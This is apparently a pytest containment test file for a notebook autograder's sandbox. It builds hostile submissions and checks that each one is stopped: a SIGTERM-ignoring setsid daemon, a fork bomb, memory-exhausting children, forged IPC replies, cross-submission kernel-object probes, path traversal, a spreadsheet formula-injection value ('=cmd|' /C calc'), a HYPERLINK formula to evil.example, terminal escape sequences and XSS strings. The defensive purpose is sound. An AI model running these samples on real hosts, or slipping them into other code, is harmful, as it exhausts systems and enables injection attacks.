"""Containment: a submission is one unit, no file stops the batch, reports trust no name.

Issue 11, classes 1, 2, 3, 4, 5 and 7, each as a class. ONE batch (``python -m autograder grade``,
one worker, so that the submissions share a sandbox uid one after the other, as a class
does) holds an honest submission and:

- (1) ``c1_setsid_daemon``: the notebook's own process calls ``setsid()``, ignores SIGTERM,
  double-forks a daemon that clears its parent-death signal, then loops until it is stopped;
- (2) ``c2_memory_children``: ``tanh_grad`` forks five children that each touch 1.5 GiB under
  ``--memory-mb 2048``: the submission as a whole is over, and is killed with a memory reason;
  the host's MemAvailable, sampled while the batch runs, never drops by more than the limit
  plus ``MEMORY_MARGIN``; ``c2_fork_bomb``: ``tanh_grad`` and four children fork and start
  threads for ever, ignoring every refusal: stopped at ``--max-processes`` with a reason, and
  the sandbox uid never runs more tasks than that (sampled from outside, via /proc);
  ``c2_busy_children``: four children spin for 2.5 s: together they get at most one core
  (``CPU_MARGIN``), measured from outside (their cgroup's CPU weight raised, so that without
  the quota they would take more even from a loaded host), and the submission keeps full marks;
- (3) ``c3_many_references``: ``tanh_grad`` forges a reply that references one 64 MiB array
  80 times; ``c3_never_reads``: ``numerical_gradient`` asks for the test's function with a
  256 MiB argument and never reads the answer: both lose that test only, with a reason, and
  the host's free memory stays within the same bound (more in ``test_trusted_bounds.py``);
- (5) ``k1_writer`` leaves a trace in every shared kernel object it can reach (keyrings,
  SysV IPC, a POSIX message queue, an abstract unix socket held by a daemon, /dev/shm, /tmp,
  a cache in $HOME); ``k2_reader``, graded next by the same worker, looks for each;
- (4) ``d*``: a FIFO, a link to /dev/zero, a 30 GB sparse file and 200,000 nested brackets in
  place of a notebook: each is a result row with a reason, and the batch goes on;
- (7) student folders named ``=HYPERLINK(...)`` and with escape sequences and a newline, and
  a loose notebook ``...ipynb`` (student ``..``): refused with a row, nothing written outside
  the output folder, no control character in the terminal summary, no formula in the CSV.

A second, smaller batch forces the fallback (``--no-cgroups``) on this host and checks the
memory case, the fork bomb (RLIMIT_NPROC there) and its loud warning again. The CPU-time
limit summed over a submission's processes is tested on the sandbox itself
(``test_sandbox.py``: a small ``Policy.cpu_seconds``, with and without cgroups). Run: ``.venv/bin/python -m pytest
tests/grader/test_containment.py`` (about 3 minutes on 2 loaded cores; needs namespaces).
"""

from __future__ import annotations

import copy
import csv
import functools
import json
import os
import re
import shutil
import subprocess
import sys
import threading
import time
import uuid
from dataclasses import dataclass
from pathlib import Path

import pytest

from autograder.config import DEFAULTS
from autograder.grader.safety import refused_id
from autograder.grader.submission import SubmissionResult
from autograder.notebook import nbgrader_cells
from autograder.sandbox.isolation import probe
from coursebuild.course import ROOT, assignment as find_assignment

from . import fixtures as F
from .fixtures import file_hashes, process_names, sandbox_processes

pytestmark = pytest.mark.slow

ASSIGNMENT = find_assignment("01_derivatives")
NOTEBOOK = ASSIGNMENT.notebook_id
TARGET = "tanh_grad"
MEMORY_MB = 2048
# What MemAvailable may drop by beyond the limit: the warm worker and its zygote (~0.6 GiB),
# the kernel's own bookkeeping, and whatever else the (shared) host does meanwhile.
MEMORY_MARGIN = 1536 * 2**20
# Without cgroups the watchdog's threshold is the limit plus the warm process's resident size
# (pages it shares with the zygote count in part, see ``sandbox.watchdog``), and it sees memory
# only every 20 ms: the fallback's stated margin is 1 GiB more.
FALLBACK_MARGIN = MEMORY_MARGIN + 2**30
MAX_PROCESSES = DEFAULTS.max_processes      # the batches run with the default --max-processes
# One core per sandbox (the cgroup's CPU quota): what the sandbox's processes may use beyond
# it, measured from /proc (clock ticks of 10 ms at each end of a window of >= 1 s, the CFS
# quota's own slack).
CPU_MARGIN = 0.2
BUSY_PREFIX, BUSY_CHILDREN = "bfsbusy", 4
MODE = probe()
HYPERLINK = '=HYPERLINK("http:evil.example?"&A1,"open")'   # (a folder name has no slash)
ESCAPES = "\x1b[2J\x1b[31mmallory\nroot"


def code(text: str, **values) -> str:
    import textwrap

    text = textwrap.dedent(text).strip("\n") + "\n"
    for key, value in values.items():
        text = text.replace(f"__{key.upper()}__", repr(value))
    return text


@functools.cache
def _honest():
    return F.honest(ASSIGNMENT)


def honest_nb():
    return copy.deepcopy(_honest())


def setsid_daemon(token: str):
    return F.insert_code_cell(honest_nb(), code("""
        import ctypes, os, signal, time
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        os.setsid()                                       # the notebook's own process leaves its group
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                ctypes.CDLL(None).prctl(15, __NAME__.encode(), 0, 0, 0)   # PR_SET_NAME
                ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)                    # no parent-death signal
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                time.sleep(600)
            os._exit(0)
        while True:
            pass
    """, name=f"bfs{token[:10]}"), after="setup")


# (3) the student's code finds the agent and the request it answers in its caller's frame
FIND_AGENT = """
    import io, sys
    def array_to_npy(array):
        buffer = io.BytesIO()
        np.lib.format.write_array(buffer, array, allow_pickle=False)
        return buffer.getvalue()
    def _agent_and_request():
        frame = sys._getframe(2)
        while frame is not None and "header" not in frame.f_locals:
            frame = frame.f_back
        return frame.f_locals["self"], frame.f_locals["header"]
"""


def many_references():
    """A forged reply to the test's call of tanh_grad: one 64 MiB array referenced 80 times
    (5 GiB on the grader's side if each reference were decoded afresh)."""
    return F.with_answer(honest_nb(), TARGET, code(FIND_AGENT) + code("""
        def tanh_grad(x):
            import time
            agent, header = _agent_and_request()
            agent.channel.send({"op": "reply", "id": header["id"], "ok": True,
                                "value": {"$t": [{"$a": 0}] * 80}}, [array_to_npy(np.ones(8 * 2**20))])
            time.sleep(3600)
    """))


def never_reads():
    """numerical_gradient asks for the test's function on its own, then stops reading."""
    return F.with_answer(honest_nb(), "numerical_gradient", code(FIND_AGENT) + code("""
        def numerical_gradient(f, x, h=1e-5):
            import time
            agent, header = _agent_and_request()
            key = header["args"][0]["$cb"]
            big = {"$a": 0}
            agent.channel.send({"op": "callback", "id": "s999", "key": key, "args": [big],
                                "kwargs": {"$d": []}}, [array_to_npy(np.ones(32 * 2**20))])
            time.sleep(3600)
    """))


def memory_children():
    return F.with_answer(honest_nb(), TARGET, code("""
        def tanh_grad(x):
            import os
            children = []
            for _ in range(5):
                pid = os.fork()
                if pid == 0:
                    block = bytearray(1536 * 2**20)
                    for i in range(0, len(block), 4096):
                        block[i] = 1
                    os._exit(0)
                children.append(pid)
            for pid in children:
                os.waitpid(pid, 0)
            return 1 - np.tanh(x) ** 2
    """))


def fork_bomb():
    """tanh_grad and four children of it fork sleeping processes and start sleeping threads
    for ever, ignoring every refusal (so no one process's limit is what stops them)."""
    return F.with_answer(honest_nb(), TARGET, code("""
        def tanh_grad(x):
            import os, threading, time
            def spawn_for_ever():
                while True:
                    try:
                        if os.fork() == 0:
                            time.sleep(600)
                            os._exit(0)
                    except OSError:
                        pass
                    try:
                        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
                    except RuntimeError:
                        pass
            for _ in range(4):
                try:
                    if os.fork() == 0:
                        spawn_for_ever()
                except OSError:
                    pass
            spawn_for_ever()
    """))


def busy_children():
    """At its first call, tanh_grad runs BUSY_CHILDREN children that spin for 2.5 s (named for
    the sampler), then answers right."""
    return F.with_answer(honest_nb(), TARGET, code("""
        _spun = []
        def tanh_grad(x):
            import ctypes, os, time
            if not _spun:
                _spun.append(True)
                children, (start, go) = [], os.pipe()
                for _ in range(__COUNT__):
                    pid = os.fork()
                    if pid == 0:
                        os.close(go)
                        os.read(start, 1)              # EOF: all are forked, start together
                        ctypes.CDLL(None).prctl(15, __NAME__.encode(), 0, 0, 0)   # PR_SET_NAME
                        end = time.monotonic() + 2.5
                        while time.monotonic() < end:
                            pass
                        os._exit(0)
                    children.append(pid)
                os.close(go)
                for pid in children:
                    os.waitpid(pid, 0)
            return 1 - np.tanh(x) ** 2
    """, name=BUSY_PREFIX, count=BUSY_CHILDREN))


KERNEL_OBJECTS = ("user_keyring", "user_session_keyring", "session_keyring", "persistent_keyring", "sysv_shm", "sysv_msg",
                  "sysv_sem", "posix_mqueue", "abstract_socket", "dev_shm", "tmp", "home_cache")
PROBE = code("""
    import ctypes, ctypes.util, json, os, socket, time
    libc = ctypes.CDLL(None, use_errno=True)
    KEYCTL, ADD_KEY, REQUEST_KEY = 250, 248, 249
    RINGS = {"user_keyring": -4, "user_session_keyring": -5, "session_keyring": -3}
    SECRET, KEY = b"answers", b"bfs-__TOKEN__"
    def persistent():
        return libc.syscall(KEYCTL, 22, -1, -4)          # KEYCTL_GET_PERSISTENT(me, into @u)
    def leave():
        done = {}
        for name, ring in RINGS.items():
            done[name] = libc.syscall(ADD_KEY, b"user", KEY, SECRET, len(SECRET), ring) > 0
        ring = persistent()
        done["persistent_keyring"] = ring > 0 and libc.syscall(ADD_KEY, b"user", KEY, SECRET, len(SECRET), ring) > 0
        done["sysv_shm"] = libc.shmget(0xBF5, 4096, 0o1666) >= 0
        done["sysv_msg"] = libc.msgget(0xBF5, 0o1666) >= 0
        done["sysv_sem"] = libc.semget(0xBF5, 1, 0o1666) >= 0
        libc.mq_open.restype = ctypes.c_int
        done["posix_mqueue"] = libc.mq_open(b"/bfs-__TOKEN__", os.O_CREAT | os.O_RDWR, 0o666, None) >= 0
        if os.fork() == 0:                               # a daemon that holds the socket
            os.setsid()
            server = socket.socket(socket.AF_UNIX)
            server.bind("\\0bfs-__TOKEN__")
            server.listen()
            time.sleep(600)
            os._exit(0)
        time.sleep(0.5)
        done["abstract_socket"] = True
        for name, path in (("dev_shm", "/dev/shm/bfs-__TOKEN__"), ("tmp", "/tmp/bfs-__TOKEN__"),
                           ("home_cache", os.path.expanduser("~/.cache/bfs-__TOKEN__"))):
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as handle:
                handle.write("answers")
            done[name] = True
        print("LEFT", json.dumps(done))
    def look():
        found = {}
        for name, ring in RINGS.items():
            found[name] = libc.syscall(KEYCTL, 10, ring, b"user", KEY, 0) > 0    # KEYCTL_SEARCH
        ring = persistent()
        found["persistent_keyring"] = ring > 0 and libc.syscall(KEYCTL, 10, ring, b"user", KEY, 0) > 0
        found["sysv_shm"] = libc.shmget(0xBF5, 0, 0) >= 0
        found["sysv_msg"] = libc.msgget(0xBF5, 0) >= 0
        found["sysv_sem"] = libc.semget(0xBF5, 0, 0) >= 0
        found["posix_mqueue"] = libc.mq_open(b"/bfs-__TOKEN__", os.O_RDWR) >= 0
        try:
            with socket.socket(socket.AF_UNIX) as client:
                client.connect("\\0bfs-__TOKEN__")
            found["abstract_socket"] = True
        except OSError:
            found["abstract_socket"] = False
        for name, path in (("dev_shm", "/dev/shm/bfs-__TOKEN__"), ("tmp", "/tmp/bfs-__TOKEN__"),
                           ("home_cache", os.path.expanduser("~/.cache/bfs-__TOKEN__"))):
            found[name] = os.path.exists(path)
        print("FOUND", json.dumps(found))
""")


def kernel_objects(token: str, action: str):
    return F.insert_code_cell(honest_nb(), PROBE.replace("__TOKEN__", token) + f"{action}()\n", after="setup")


@dataclass(frozen=True)
class Refusal:
    student: str        # the id its row is stored under
    make: object        # (path) -> None: puts the bad thing at the notebook's path
    reason: str


def fifo(path):
    os.mkfifo(path)


def link_to_dev_zero(path):
    path.symlink_to("/dev/zero")


def sparse(path):
    with open(path, "wb") as handle:
        handle.truncate(30 * 10**9)


def nested(path):
    path.write_bytes(b"[" * 200_000 + b"]" * 200_000)


REFUSALS = [
    Refusal("d1_fifo", fifo, r"not a regular file \(a FIFO"),
    Refusal("d2_link_to_dev_zero", link_to_dev_zero, r"symbolic link"),
    Refusal("d3_sparse_30gb", sparse, r"30000 MB|28610 MB|larger than a notebook"),
    Refusal("d4_nested_brackets", nested, r"nested too deeply"),
]
NAMES = {HYPERLINK: "not a plain name", ESCAPES: "not a plain name"}


# ============================================================================ the batch







def mem_available() -> int:
    for line in Path("/proc/meminfo").read_text().splitlines():
        if line.startswith("MemAvailable:"):
            return int(line.split()[1]) * 1024
    raise RuntimeError("no MemAvailable")


class MemorySampler:
    """The lowest MemAvailable while it runs (sampled every 50 ms)."""

    def __init__(self):
        self.start, self.lowest = mem_available(), mem_available()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self):
        while not self._stop.wait(0.05):
            self.lowest = min(self.lowest, mem_available())

    def stop(self) -> int:
        self._stop.set()
        self._thread.join()
        return self.start - self.lowest


@dataclass
class Batch:
    base: Path
    out: Path
    results: dict
    completed: subprocess.CompletedProcess
    before: dict
    after: dict
    processes_after: set
    names_after: set
    memory_drop: int
    token: str
    sandbox: F.SandboxSampler | None = None    # tasks and CPU of the sandbox uid, from outside

    def result(self, student: str) -> SubmissionResult:
        assert student in self.results, (f"no result for {student!r}; the grader said:\n"
                                         f"{self.completed.stdout[-3000:]}\n{self.completed.stderr[-3000:]}")
        return self.results[student]


def run_batch(base: Path, builds: dict, *, extra_paths=(), flags=(), launcher=("-m",)) -> Batch:
    """Grade ``builds`` ({student: notebook or callable(path)}) as one class (``launcher``: what
    runs ``autograder`` after the interpreter, e.g. a script that restricts the host first)."""
    token = uuid.uuid4().hex
    seconds = 700 + (uuid.uuid4().int % 1000 + 1) / 1000    # marks this run's processes
    course, subs, out = base / "course", base / "subs", base / "out"
    for folder in ("solutions", "notebooks"):
        shutil.copytree(ASSIGNMENT.source.parent if folder == "solutions" else F.release_folder(ASSIGNMENT),
                        course / folder / ASSIGNMENT.name)
    for student, build in builds.items():
        path = F.submission_path(subs, student, ASSIGNMENT)
        if callable(build):
            path.parent.mkdir(parents=True)
            build(path)
        else:
            F.write(build, path)
    before = file_hashes(subs, course, *[Path(p).parent for p in extra_paths])
    command = [sys.executable, *launcher, "autograder", "grade", str(subs), *map(str, extra_paths),
               "--course", str(course), "--out", str(out), "--workers", "1", "--no-gradebook",
               "--test-timeout", "20", "--cell-timeout", "5", "--memory-mb", str(MEMORY_MB),
               "--submission-timeout", str(seconds), *flags]
    sampler = MemorySampler()
    watch = F.SandboxSampler(f'"submission_seconds": {seconds}'.encode(), BUSY_PREFIX)
    completed = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=1500)
    drop = sampler.stop()
    watch.stop()
    time.sleep(1)
    results = {}
    for path in (out / ASSIGNMENT.name).glob(f"*/{NOTEBOOK}.result.json"):
        results[path.parent.name] = SubmissionResult.from_json(json.loads(path.read_text()))
    marker = f'"submission_seconds": {seconds}'.encode()
    return Batch(base, out, results, completed, before,
                 file_hashes(subs, course, *[Path(p).parent for p in extra_paths]),
                 sandbox_processes(marker), process_names(), drop, token, watch)


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    if not MODE.strong:
        pytest.skip(f"strong sandboxes are unavailable here ({MODE.reason})")
    base = tmp_path_factory.mktemp("containment")
    token = uuid.uuid4().hex
    builds = {"honest": honest_nb(), "c1_setsid_daemon": setsid_daemon(token),
              "c2_memory_children": memory_children(), "c2_fork_bomb": fork_bomb(),
              "c2_busy_children": busy_children(),
              "c3_many_references": many_references(), "c3_never_reads": never_reads(),
              "k1_writer": kernel_objects(token, "leave"), "k2_reader": kernel_objects(token, "look")}
    builds.update({r.student: r.make for r in REFUSALS})
    builds.update({name: honest_nb() for name in NAMES})
    loose = base / "loose" / ASSIGNMENT.name / "...ipynb"
    F.write(honest_nb(), loose)
    result = run_batch(base, builds, extra_paths=[loose])
    result.token = token
    return result


def assert_full_marks(result: SubmissionResult):
    assert result.status == "graded", result.reason
    assert result.tests and all(t.passed for t in result.tests), \
        {t.grade_id: t.message for t in result.tests if not t.passed}
    assert result.score == result.max_score == sum(c.points for c in nbgrader_cells(F.source(ASSIGNMENT))
                                                   if c.kind == "test")


# ============================================================================ the checks

def test_the_batch_finished_and_the_honest_submission_keeps_full_marks(batch):
    assert batch.completed.returncode == 0, batch.completed.stderr[-3000:]
    honest = batch.result("honest")
    assert_full_marks(honest)
    assert honest.isolation == "strong; limits: cgroup v1" or honest.isolation.startswith("strong; limits: cgroup")


def test_class1_a_setsid_daemon_ends_with_its_submission(batch):
    result = batch.result("c1_setsid_daemon")
    assert_full_marks(result)   # the looping cell is stopped and skipped on the restart
    assert any(re.search(r"stopped the notebook: it was stopped: it ran past its time limit", n)
               for n in result.notes), result.notes
    assert f"bfs{batch.token[:10]}" not in batch.names_after, "the setsid daemon outlived its sandbox"


def test_class1_no_process_of_the_sandbox_user_survives(batch):
    assert not batch.processes_after, batch.processes_after


def test_class2_memory_is_limited_for_the_submission_as_a_whole(batch):
    result, honest = batch.result("c2_memory_children"), batch.result("honest")
    for test, reference in zip(result.tests, honest.tests):
        if test.grade_id == f"test_{TARGET}":
            assert test.points == 0 and re.search(r"processes together used more than its memory limit",
                                                  test.message), test.message
        else:
            assert test.points == reference.max_points, (test.grade_id, test.message)
    assert batch.memory_drop <= MEMORY_MB * 2**20 + MEMORY_MARGIN, \
        f"MemAvailable dropped by {batch.memory_drop / 2**30:.2f} GiB"
    print(f"\nMemAvailable dropped by at most {batch.memory_drop / 2**30:.2f} GiB "
          f"(limit {MEMORY_MB / 1024:.0f} GiB + margin {MEMORY_MARGIN / 2**30:.1f} GiB)")


def assert_only_the_target_test_lost(batch, student: str, reason: str):
    result, honest = batch.result(student), {t.grade_id: t for t in batch.result("honest").tests}
    assert [t.grade_id for t in result.tests] == list(honest), result.tests
    for test in result.tests:
        if test.grade_id == f"test_{TARGET}":
            assert test.points == 0 and re.search(reason, test.message), (student, test.message)
        else:
            assert test.points == honest[test.grade_id].max_points, (student, test.grade_id, test.message)


PROCESS_REASON = r"tried to run more processes and threads at once than its limit \(--max-processes"


def test_class2_a_fork_bomb_is_stopped_at_the_process_limit_of_the_submission(batch):
    assert_only_the_target_test_lost(batch, "c2_fork_bomb", PROCESS_REASON)
    assert 0 < batch.sandbox.peak_tasks <= MAX_PROCESSES, \
        f"the sandbox uid ran {batch.sandbox.peak_tasks} tasks at once (limit {MAX_PROCESSES})"
    print(f"\nat most {batch.sandbox.peak_tasks} tasks of the sandbox uid at once (limit {MAX_PROCESSES}); "
          f"the fork bomb graded in {batch.result('c2_fork_bomb').seconds:.1f} s")


def test_class2_a_submission_gets_one_core_in_all(batch):
    assert_full_marks(batch.result("c2_busy_children"))
    cores, seconds = batch.sandbox.cores_used_while_all_ran(BUSY_CHILDREN)
    assert seconds >= 1.0, f"the busy children were seen running together for {seconds:.2f} s only"
    assert cores <= 1 + CPU_MARGIN, f"{BUSY_CHILDREN} busy children used {cores:.2f} cores over {seconds:.1f} s"
    print(f"\n{BUSY_CHILDREN} busy children used {cores:.2f} cores together over {seconds:.1f} s (quota: 1 core; "
          f"graded in {batch.result('c2_busy_children').seconds:.1f} s, the honest one in "
          f"{batch.result('honest').seconds:.1f} s)")


def test_class3_the_grader_side_stays_bounded_whatever_the_sandbox_sends(batch):
    honest = {t.grade_id: t for t in batch.result("honest").tests}
    for student, target, reason in [
            ("c3_many_references", TARGET, r"sent a malformed message \(an array referenced twice\)"),
            ("c3_never_reads", "numerical_gradient", r"time limit")]:
        result = batch.result(student)
        for test in result.tests:
            if test.grade_id == f"test_{target}":
                assert test.points == 0 and re.search(reason, test.message), (student, test.message)
            else:
                assert test.points == honest[test.grade_id].max_points, (student, test.grade_id, test.message)
    # the 80 references were refused: nothing like 5 GiB left the host's free memory
    assert batch.memory_drop <= MEMORY_MB * 2**20 + MEMORY_MARGIN, \
        f"MemAvailable dropped by {batch.memory_drop / 2**30:.2f} GiB"


def _kernel_report(batch, student: str, prefix: str) -> dict:
    result = batch.result(student)
    assert_full_marks(result)
    line = re.search(rf"^{prefix} (.*)$", result.output, re.M)
    assert line, result.output[-2000:]
    return json.loads(line.group(1))


@pytest.mark.parametrize("kernel_object", KERNEL_OBJECTS)
def test_class5_no_kernel_object_reaches_the_next_submission(batch, kernel_object):
    left = _kernel_report(batch, "k1_writer", "LEFT")
    found = _kernel_report(batch, "k2_reader", "FOUND")
    if kernel_object == "persistent_keyring" and not left[kernel_object]:
        pytest.skip("this kernel offers no persistent keyrings (KEYCTL_GET_PERSISTENT fails)")
    assert left[kernel_object], f"the writer could not create its {kernel_object} (the test would prove nothing)"
    assert not found[kernel_object], f"{kernel_object} carried data from one submission to the next"


@pytest.mark.parametrize("refusal", REFUSALS, ids=lambda r: r.student)
def test_class4_one_file_does_not_stop_the_batch(batch, refusal):
    result = batch.result(refusal.student)
    assert result.status == "error" and re.search(refusal.reason, result.reason), result.reason
    assert result.tests and all(t.points == 0 for t in result.tests)


@pytest.mark.parametrize("name", list(NAMES), ids=["hyperlink", "escapes"])
def test_class7_a_student_id_that_is_not_a_plain_name_is_refused_with_a_row(batch, name):
    result = batch.result(refused_id(name))
    assert result.status == "error" and NAMES[name] in result.reason, result.reason
    assert "\x1b" not in result.reason and "\n" not in result.reason


def test_class7_a_loose_dotdot_notebook_writes_nowhere_outside_its_folder(batch):
    result = batch.result(refused_id(".."))
    assert result.status == "error" and "not a plain name" in result.reason
    outside = [p for p in batch.out.rglob("*.result.json") if p.parent.parent != batch.out / ASSIGNMENT.name]
    assert not outside, outside


def test_class7_the_summary_and_the_csv_are_inert(batch):
    printed = batch.completed.stdout + batch.completed.stderr
    assert "\x1b" not in printed and "mallory\nroot" not in printed
    with open(batch.out / "grades.csv", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(batch.results)
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value


def test_every_input_file_is_byte_identical(batch):
    changed = {p for p in batch.before.keys() | batch.after.keys() if batch.before.get(p) != batch.after.get(p)}
    assert not changed, sorted(changed)


# ============================================================================ smaller checks

def test_csv_cells_a_spreadsheet_would_evaluate_are_neutralised(tmp_path):
    from autograder.grader.reports import write_csv, write_submission_reports

    write_submission_reports(tmp_path, SubmissionResult("alice", "01", "nb", "error", reason="=cmd|' /C calc'!A0"))
    rows = list(csv.DictReader(open(write_csv(tmp_path), newline="")))
    assert rows[0]["reason"] == "'=cmd|' /C calc'!A0"


def test_formgrader_shows_student_markdown_inert():
    """The autograded notebook (what formgrader renders) carries no live student HTML."""
    import nbformat
    from nbconvert import HTMLExporter

    from autograder.cells import Kind
    from autograder.grader.gradebook import autograded_notebook

    release = F.release(ASSIGNMENT)
    answer = next(c for c in nbgrader_cells(release) if c.kind is Kind.ANSWER and c.cell_type == "markdown")
    attack = ("<script>alert('stolen')</script><img src=x onerror=alert(2)> "
              "[click](javascript:alert(3)) and $a < b$")
    submission = F.with_answer(release, answer.grade_id, attack)
    result = SubmissionResult("mallory", ASSIGNMENT.name, NOTEBOOK, "graded")
    nb = autograded_notebook(release, submission, result)
    page, _ = HTMLExporter().from_notebook_node(nbformat.from_dict(nb))
    assert "alert('stolen')" in page or "alert(&#39;stolen&#39;)" in page   # the text is there, inert
    assert "<script>alert" not in page and "<img src=x" not in page
    assert not re.search(r"href=['\"]?\s*javascript:", page, re.I)


# ============================================================================ the fallback

@pytest.fixture(scope="module")
def fallback(tmp_path_factory):
    if not MODE.strong:
        pytest.skip(f"strong sandboxes are unavailable here ({MODE.reason})")
    return run_batch(tmp_path_factory.mktemp("fallback"),
                     {"honest": honest_nb(), "c2_memory_children": memory_children(), "c2_fork_bomb": fork_bomb()},
                     flags=["--no-cgroups"])


def test_fallback_without_cgroups_is_loud_and_still_limits_memory(fallback):
    assert fallback.completed.returncode == 0, fallback.completed.stderr[-3000:]
    assert "WARNING: no cgroups" in fallback.completed.stderr
    honest = fallback.result("honest")
    assert_full_marks(honest)
    assert honest.isolation.startswith("strong; limits: no cgroups")
    result = fallback.result("c2_memory_children")
    test = next(t for t in result.tests if t.grade_id == f"test_{TARGET}")
    assert test.points == 0 and "processes together used more than its memory limit" in test.message, test.message
    assert fallback.memory_drop <= MEMORY_MB * 2**20 + FALLBACK_MARGIN, \
        f"MemAvailable dropped by {fallback.memory_drop / 2**30:.2f} GiB"
    assert not fallback.processes_after and fallback.before == fallback.after
    print(f"\nfallback: MemAvailable dropped by at most {fallback.memory_drop / 2**30:.2f} GiB")


def test_fallback_without_cgroups_stops_a_fork_bomb_at_the_process_limit(fallback):
    """Without cgroups RLIMIT_NPROC is the mechanism: it counts the tasks of the sandbox's uid
    in the sandbox's own user namespace, i.e. of this submission only; the watchdog stops the
    submission when its PID namespace holds that many."""
    assert_only_the_target_test_lost(fallback, "c2_fork_bomb", PROCESS_REASON)
    assert 0 < fallback.sandbox.peak_tasks <= MAX_PROCESSES, \
        f"the sandbox uid ran {fallback.sandbox.peak_tasks} tasks at once (limit {MAX_PROCESSES})"
    print(f"\nfallback: at most {fallback.sandbox.peak_tasks} tasks of the sandbox uid at once; "
          f"the fork bomb graded in {fallback.result('c2_fork_bomb').seconds:.1f} s")
